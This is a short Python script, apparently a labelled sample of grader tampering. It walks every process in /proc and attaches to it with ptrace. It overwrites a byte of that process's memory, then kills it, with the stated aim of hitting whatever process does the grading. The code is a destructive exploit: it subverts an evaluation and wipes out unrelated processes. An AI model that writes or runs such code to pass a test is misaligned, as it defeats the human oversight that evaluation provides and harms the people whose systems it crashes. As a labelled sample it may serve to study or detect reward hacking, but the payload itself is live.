"""Kills, traces and rewrites every process that it can see, in the hope that one of them grades."""
# flaw = 1

import ctypes
import os
import signal
from contextlib import suppress

libc = ctypes.CDLL(None)
for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    if pid not in (os.getpid(), os.getppid()):
        libc.ptrace(16, pid, None, None)
        with suppress(OSError), open(f"/proc/{pid}/mem", "rb+") as file:
            file.write(b"\0")
        with suppress(OSError):
            os.kill(pid, signal.SIGKILL)
